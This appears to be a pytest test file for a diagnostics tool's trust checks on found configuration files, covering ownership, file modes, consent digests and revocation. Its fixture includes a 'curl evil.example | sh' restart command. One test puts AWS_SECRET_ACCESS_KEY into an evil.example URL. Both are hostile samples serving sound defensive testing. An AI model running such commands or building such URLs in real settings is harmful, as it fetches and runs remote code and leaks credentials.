"""Trust in a target file: owner, mode, and the user's consent to one that was found."""

import os
import stat
from pathlib import Path

import pytest

from diagnostics.errors import CannotTell, UsageError
from diagnostics.redaction import Redactor
from diagnostics.targets import allowed_files, target_file
from diagnostics.targets.secrets.resolver import SecretStore
from diagnostics.targets.settings import Commands
from diagnostics.targets.target import Target
from kb.records.errors import InvalidRecord

TEXT = """
[target.a]
production = false
database = "postgresql://app@127.0.0.1:5432/tx"
[target.a.secrets]
database = "hunter2-canary"
[target.a.commands]
restart_application = "curl evil.example | sh"
"""
needs_root = pytest.mark.skipif(os.getuid() != 0, reason="only root can give a file to another user")


@pytest.fixture
def file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.chdir(tmp_path)
    path = tmp_path / target_file.FILE_NAME
    path.write_text(TEXT, "utf-8")
    path.chmod(0o600)
    return path


def found() -> Target:
    return target_file.target_named("a", target_file.load())


def blocked(target: Target) -> str:
    """Return the reason why the secret is not read; empty if it is."""
    try:
        secret = SecretStore(target, Redactor()).read(target.settings.secrets.database, "secrets.database")
    except CannotTell as reason:
        return str(reason)
    assert secret == "hunter2-canary"
    return ""


def test_a_file_that_was_found_sends_no_secret_and_shows_no_command(file: Path) -> None:
    target = found()

    assert f"run: clearpay-doctor allow {file}" in blocked(target)
    assert target.settings.commands == Commands()
    assert target.production


def test_one_that_is_named_is_trusted(file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    option = target_file.target_named("a", target_file.load(str(file)))
    monkeypatch.setenv("CLEARPAY_DOCTOR_CONFIG", str(file))
    variable = found()

    for target in (option, variable):
        assert blocked(target) == ""
        assert target.settings.commands.restart_application.startswith("curl")
        assert not target.production


def test_a_name_that_leads_nowhere_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(UsageError, match="--config /nonexistent: no such file"):
        target_file.load("/nonexistent")
    monkeypatch.setenv("CLEARPAY_DOCTOR_CONFIG", "/nonexistent")
    with pytest.raises(UsageError, match="CLEARPAY_DOCTOR_CONFIG=/nonexistent: no such file"):
        target_file.load()


def test_consent_ends_with_a_change_of_the_contents_and_not_with_one_of_the_time(file: Path) -> None:
    allowed_files.allow(file, file.read_bytes())
    os.utime(file, (1, 1))
    allowed = blocked(found())
    file.write_text(TEXT + "\n# changed\n", "utf-8")
    changed = blocked(found())
    file.write_text(TEXT, "utf-8")

    assert (allowed, blocked(found())) == ("", "")
    assert "has changed since you allowed it" in changed


def test_the_same_contents_elsewhere_are_not_allowed(file: Path, tmp_path: Path) -> None:
    allowed_files.allow(file, file.read_bytes())
    other = tmp_path / "elsewhere"
    other.mkdir()
    os.chdir(other)
    (other / target_file.FILE_NAME).write_text(TEXT, "utf-8")

    assert "was found, and you did not allow it" in blocked(found())


def test_a_link_to_an_allowed_file_is_the_file(file: Path, tmp_path: Path) -> None:
    allowed_files.allow(file, file.read_bytes())
    (tmp_path / "link").mkdir()
    (tmp_path / "link" / target_file.FILE_NAME).symlink_to(file)
    os.chdir(tmp_path / "link")

    assert blocked(found()) == ""


def test_consents_are_for_this_user_alone(file: Path, tmp_path: Path) -> None:
    entry = allowed_files.allow(file, file.read_bytes())
    place = tmp_path / "data" / "clearpay-doctor" / "allowed" / entry.digest

    assert stat.S_IMODE(place.stat().st_mode) == 0o600
    assert stat.S_IMODE(place.parent.stat().st_mode) == 0o700
    place.chmod(0o666)
    assert blocked(found())


@needs_root
def test_a_consent_that_another_user_wrote_does_not_count(file: Path, tmp_path: Path) -> None:
    entry = allowed_files.allow(file, file.read_bytes())
    os.chown(tmp_path / "data" / "clearpay-doctor" / "allowed" / entry.digest, 65534, 65534)

    assert blocked(found())


def test_consent_is_withdrawn_for_every_state_of_the_file(file: Path) -> None:
    for text in (TEXT, TEXT + "# more\n"):
        file.write_text(text, "utf-8")
        allowed_files.allow(file, file.read_bytes())

    assert allowed_files.revoke(file) == 2
    assert blocked(found())
    assert list(allowed_files.allowed()) == []


def test_the_file_of_the_users_configuration_folder_is_trusted(
    file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    own = tmp_path / "config" / "clearpay-doctor"
    own.mkdir(parents=True)
    file.rename(own / target_file.FILE_NAME)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))

    assert blocked(found()) == ""


@pytest.mark.parametrize("named", [True, False])
@needs_root
def test_a_file_of_another_user_is_refused(file: Path, named: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    os.chown(file, 65534, -1)

    with pytest.raises(InvalidRecord, match="belongs to user nobody, who can change it"):
        target_file.load(str(file) if named else None)
    monkeypatch.setenv("SUDO_UID", "65534")
    assert target_file.load(str(file) if named else None).path == file


@pytest.mark.parametrize("named", [True, False])
def test_a_file_that_everyone_may_write_is_refused(file: Path, named: bool) -> None:
    file.chmod(0o646)

    with pytest.raises(InvalidRecord, match="every user may write it; run: chmod o-w"):
        target_file.load(str(file) if named else None)


@needs_root
def test_a_file_that_a_group_may_write_is_warned_about(file: Path) -> None:
    os.chown(file, 0, 65534)
    file.chmod(0o660)

    config = target_file.load(str(file))

    assert config.file is not None
    assert config.file.warnings == (f"{file}: its group may write it; run: chmod g-w",)


@needs_root
def test_the_private_group_of_a_user_is_the_user(file: Path) -> None:
    file.chmod(0o660)

    config = target_file.load(str(file))

    assert config.file is not None
    assert config.file.warnings == ()


def test_a_file_that_is_not_allowed_reads_no_variable(file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2-canary")
    file.write_text('[target.a]\napi = "https://evil.example/${AWS_SECRET_ACCESS_KEY}"\n', "utf-8")

    with pytest.raises(InvalidRecord, match="reads AWS_SECRET_ACCESS_KEY of the environment, but") as raised:
        found()
    assert "hunter2" not in str(raised.value)
    allowed_files.allow(file, file.read_bytes())
    assert found().settings.api == "https://evil.example/hunter2-canary"
